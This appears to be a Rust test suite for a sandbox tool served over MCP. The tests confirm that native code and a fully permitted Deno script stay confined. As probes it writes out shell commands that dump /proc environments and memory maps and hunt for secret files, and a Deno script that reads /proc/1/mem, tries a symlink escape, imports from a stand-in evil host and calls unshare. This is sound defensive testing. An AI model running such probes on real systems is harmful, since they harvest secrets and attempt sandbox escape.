//! Code of the machine itself, in the same kind of box: what an engine would be without its walls.

use std::path::Path;

use belljar_testkit::Program;
use serde_json::json;

use super::*;

/// The server for a project that has the probe in it.
fn with_probe(lab: &Lab) -> (PathBuf, Mcp) {
    let probe = lab.workspace().join("probe");
    lab.belljar(["doctor", "--write-probe"]).arg(&probe).run().expect(0);
    let mcp = lab.belljar(["mcp", "--workspace"]).arg(lab.workspace());
    let mcp = Mcp::start(mcp.env("CANARY_OF_THE_SERVER", "in its environment"));
    (probe, mcp)
}

#[test]
fn f01_native_code_cannot_reach_host_files_processes_or_upstreams() {
    let (lab, upstream) = site(echo);
    let (file, secret) = canary(&lab);
    let (probe, mcp) = with_probe(&lab);
    let state = lab.state().display().to_string();
    let pid = mcp.pid().to_string();
    let direct = upstream.address().to_string();
    let file = file.display().to_string();
    // Outside, each of these is granted.
    let acts: [&[&str]; 5] = [
        &["read", &file],
        &["list", &state],
        &["connect-tcp", &direct],
        &["kill", &pid, "0"],
        &["stat", &file],
    ];
    let told = |words: &[&str]| {
        let mut all = vec!["/workspace/probe"];
        all.extend(words);
        command(&mcp, &all)["stdout"].as_str().unwrap_or_default().trim_end().to_owned()
    };
    for words in acts {
        let outside = Program::new(&probe).args(words).run();
        assert!(outside.out().starts_with("ok"), "control: {words:?}: {}", outside.out());
        let inside = told(words);
        let refused = inside.starts_with("errno") || inside.starts_with("killed");
        assert!(refused, "{words:?}: {inside}");
    }
    // What it has: nothing of the server's, and of the secret only what stands for it.
    let environment = command(&mcp, &["env"])["stdout"].as_str().unwrap_or_default().to_owned();
    assert!(environment.contains("TOKEN=ghp_"), "control: {environment}");
    let everything = "cat /proc/*/environ /proc/*/cmdline /proc/*/maps 2>/dev/null | tr '\\0' '\\n'; \
                      find / -xdev -name 'canary.txt' -o -xdev -name '*.sock' 2>/dev/null; ls -la /proc/*/fd 2>/dev/null; \
                      grep -rl canary /tmp /workspace /home /root /run /var/tmp 2>/dev/null; true";
    let seen =
        command(&mcp, &["sh", "-c", everything])["stdout"].as_str().unwrap_or_default().to_owned();
    let seen = format!("{environment}{seen}");
    for never in [REAL, secret.as_str(), "in its environment", &file, &state] {
        assert!(!seen.contains(never), "{never} in {seen}");
    }
    let pids = told(&["pids"]);
    assert!(pids.starts_with("ok") && pids.split_whitespace().count() < 8, "{pids}");
    assert!(upstream.received().is_empty(), "nothing went past the broker");
    // By way of the broker it gets what a program in the engine gets.
    let asked = command(
        &mcp,
        &[
            "sh",
            "-c",
            "curl -sS -H \"authorization: Bearer $TOKEN\" https://api.example.com/; curl -sS https://other.example.com/; echo $?",
        ],
    );
    let asked = asked["stdout"].as_str().unwrap_or_default();
    assert!(asked.contains("[belljar:token]") && !asked.contains(REAL), "{asked}");
    assert!(asked.trim_end().ends_with('6'), "{asked}");
    assert_eq!(upstream.received().len(), 1);
}

#[test]
fn f01_native_code_cannot_read_files_of_another_mcp_session() {
    let lab = lab();
    let (one, two) = (Mcp::start(lab.belljar(["mcp"])), Mcp::start(lab.belljar(["mcp"])));
    let write =
        "echo of-the-first > /workspace/mark; echo of-the-first > /tmp/mark; cat /workspace/mark";
    assert_eq!(command(&one, &["sh", "-c", write])["stdout"], "of-the-first\n");
    assert_eq!(
        command(&one, &["cat", "/workspace/mark"])["stdout"],
        "of-the-first\n",
        "control: its own"
    );
    let look = "cat /workspace/mark /tmp/mark; ls -A /workspace /tmp; find / -xdev -name mark 2>/dev/null; true";
    for (mcp, shows) in [(&two, false), (&one, true)] {
        let seen = command(mcp, &["sh", "-c", look]);
        assert_eq!(seen["stdout"].as_str().unwrap().contains("of-the-first"), shows, "{seen:#}");
        assert!(!seen["stdout"].as_str().unwrap().contains("/tmp/mark"), "{seen:#}");
    }
}

/// Where `cargo xtask test` put the clients.
fn clients() -> PathBuf {
    let target = Path::new(env!("CARGO_TARGET_TMPDIR")).parent().expect("a target directory");
    let dir = target.join("clients");
    assert!(dir.is_dir(), "no {}: `cargo xtask test` installs it", dir.display());
    dir
}

#[test]
fn f02_deno_with_all_permissions_is_confined_by_the_box() {
    let (lab, upstream) = site(echo);
    let (file, secret) = canary(&lab);
    let config = lab.home().join(".config/belljar/belljar.toml");
    let mut text = std::fs::read_to_string(&config).unwrap();
    text.push_str(&format!(
        "\n[code]\ntemplate = \"deno\"\n[template.deno]\nnet = \"restricted\"\nmounts = [\"{}:/opt/clients:ro\"]\n\
         memory = \"2GiB\"\n",
        clients().display()
    ));
    std::fs::write(&config, text).unwrap();
    let script = format!(
        r#"
const told = {{}};
const tries = async (name, act) => {{ try {{ told[name] = await act(); }} catch (error) {{ told[name] = "refused: " + error.name; }} }};
Deno.writeTextFileSync("/tmp/mine", "mine");
await tries("control", () => Deno.readTextFile("/tmp/mine"));
await tries("file", () => Deno.readTextFile({file:?}));
Deno.symlinkSync({file:?}, "/tmp/link");
await tries("link", () => Deno.readTextFile("/tmp/link"));
await tries("environ", () => Deno.readTextFile("/proc/self/environ"));
await tries("parent", () => Deno.readTextFile("/proc/1/environ"));
await tries("mem", () => {{ const f = Deno.openSync("/proc/1/mem"); f.seekSync(0x400000, 0); return f.readSync(new Uint8Array(8)); }});
await tries("worker", () => new Promise((yes) => {{
  const source = "self.postMessage([...Deno.readDirSync('/')].map((it) => it.name).join())";
  new Worker("data:application/javascript," + encodeURIComponent(source), {{ type: "module" }}).onmessage = (e) => yes(e.data);
}}));
await tries("import", () => import("https://evil.example.com/x.js"));
await tries("allowed", async () => (await fetch("https://api.example.com/x")).status);
await tries("direct", async () => {{ const c = await Deno.connect({{ hostname: "127.0.0.1", port: {port} }}); c.close(); return "connected"; }});
await tries("ffi", () => {{
  const c = Deno.dlopen("libc.so.6", {{ getuid: {{ parameters: [], result: "u32" }}, unshare: {{ parameters: ["i32"], result: "i32" }} }});
  return [c.symbols.getuid() >= 0, c.symbols.unshare(0x10000000)];
}});
await tries("sh", () => new TextDecoder().decode(new Deno.Command("cat", {{ args: [{file:?}] }}).outputSync().stdout));
console.log(JSON.stringify(told));
Deno.exit(0);
"#,
        file = file.display().to_string(),
        port = upstream.address().port(),
    );
    let mcp = Mcp::start(lab.belljar(["mcp"]).env("CANARY_OF_THE_SERVER", "in its environment"));
    mcp.call("write_file", &json!({ "path": "/workspace/try.ts", "content": script }));
    let line = "DENO_DIR=/tmp/.deno DENO_NO_UPDATE_CHECK=1 /opt/clients/npm/node_modules/.bin/deno run -A --no-lock --quiet try.ts";
    let account = command(&mcp, &["sh", "-c", line]);
    let told: Value = serde_json::from_str(account["stdout"].as_str().unwrap_or_default().trim())
        .unwrap_or_else(|error| panic!("{error}: {account:#}"));
    assert_eq!((&told["control"], &told["allowed"]), (&json!("mine"), &json!(200)), "{told:#}");
    let refused = |name: &str| told[name].as_str().is_some_and(|it| it.starts_with("refused"));
    for name in ["file", "link", "mem", "import", "direct"] {
        assert!(refused(name), "{name}: {told:#}");
    }
    // It has its worker and its C library, and with them what the box has.
    assert!(told["worker"].as_str().is_some_and(|it| it.contains("workspace")), "{told:#}");
    assert_eq!(told["ffi"], json!([true, -1]), "{told:#}");
    assert_eq!(told["sh"], "", "{told:#}");
    let all = told.to_string();
    for never in [REAL, secret.as_str(), "in its environment"] {
        assert!(!all.contains(never), "{never} in {told:#}");
    }
    assert!(upstream.received().iter().all(|it| it.path == "/x"));
}
